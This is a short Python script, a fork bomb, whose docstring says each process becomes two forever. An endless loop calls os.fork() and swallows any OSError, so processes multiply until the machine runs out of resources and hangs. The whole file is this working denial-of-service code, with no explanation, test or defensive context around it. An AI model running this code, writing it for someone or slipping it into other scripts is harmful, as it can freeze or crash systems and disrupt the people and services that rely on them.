"""Each process becomes two, for ever."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
